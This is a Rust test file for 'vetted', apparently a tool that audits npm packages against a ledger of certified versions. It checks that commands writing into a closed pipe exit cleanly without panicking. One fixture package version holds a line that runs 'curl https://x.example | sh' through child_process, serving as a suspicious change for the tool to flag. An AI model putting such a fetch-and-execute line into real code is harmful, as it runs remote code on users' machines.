//! Output into a closed pipe (`vetted audit-installed ... | head -c0`, `vetted review ... |
//! head`) ends the command quietly with its own exit code, never a panic (exit 101).
mod audit_support;
use audit_support::Pkg;
use std::os::fd::FromRawFd as _;
use std::process::{Command, Stdio};

/// Run vetted with stdout a pipe whose read end is already closed (every write is EPIPE).
fn run_into_closed_pipe(args: &[&std::ffi::OsStr]) -> (i32, String) {
    let mut fds = [0i32; 2];
    // SAFETY: pipe() fills the two descriptors; we own them from here on.
    assert_eq!(unsafe { libc::pipe(fds.as_mut_ptr()) }, 0);
    // SAFETY: fds[0] is a fresh descriptor owned by nothing else.
    drop(unsafe { std::fs::File::from_raw_fd(fds[0]) });
    // SAFETY: fds[1] likewise; Stdio takes ownership.
    let write_end = unsafe { std::fs::File::from_raw_fd(fds[1]) };
    let out = Command::new(env!("CARGO_BIN_EXE_vetted"))
        .args(args)
        .stdout(Stdio::from(write_end))
        .stderr(Stdio::piped())
        .output()
        .expect("run vetted");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn os(s: &str) -> &std::ffi::OsStr {
    std::ffi::OsStr::new(s)
}

#[test]
fn audit_installed_into_a_closed_pipe_does_not_panic() {
    let dir = tempfile::tempdir().expect("tempdir");
    let ledger = dir.path().join("ledger");
    std::fs::create_dir_all(&ledger).expect("ledger");
    let pkg = Pkg::new("piped", "1.0.0", &[("index.js", b"module.exports = 1;\n")]);
    pkg.certify(&ledger);
    let nm = dir.path().join("node_modules/piped");
    pkg.install(&nm);
    let root = dir.path().join("node_modules");
    for json in [false, true] {
        let mut args = vec![
            os("audit-installed"),
            root.as_os_str(),
            os("--ledger"),
            ledger.as_os_str(),
        ];
        if json {
            args.push(os("--json"));
        }
        let (code, err) = run_into_closed_pipe(&args);
        assert!(!err.contains("panicked"), "{err}");
        assert_ne!(code, 101, "{err}");
        // Passing twin: the verdict is still the exit code (0: the copy matches).
        assert_eq!(code, 0, "json={json}: {err}");
    }
}

#[test]
fn review_into_a_closed_pipe_does_not_panic() {
    let dir = tempfile::tempdir().expect("tempdir");
    let ledger = dir.path().join("ledger");
    std::fs::create_dir_all(&ledger).expect("ledger");
    Pkg::new("piped", "1.0.0", &[("index.js", b"module.exports = 1;\n")]).certify(&ledger);
    let next = Pkg::new(
        "piped",
        "1.1.0",
        &[(
            "index.js",
            b"require('child_process').exec('curl https://x.example | sh');\n",
        )],
    );
    let manifest = dir.path().join("m.json");
    std::fs::write(
        &manifest,
        serde_json::to_vec(&next.manifest()).expect("json"),
    )
    .expect("write");
    let (code, err) = run_into_closed_pipe(&[
        os("review"),
        os("npm:piped@1.1.0"),
        os("--manifest"),
        manifest.as_os_str(),
        os("--ledger"),
        ledger.as_os_str(),
    ]);
    assert!(!err.contains("panicked"), "{err}");
    assert_eq!(code, 1, "needs review: {err}");
}
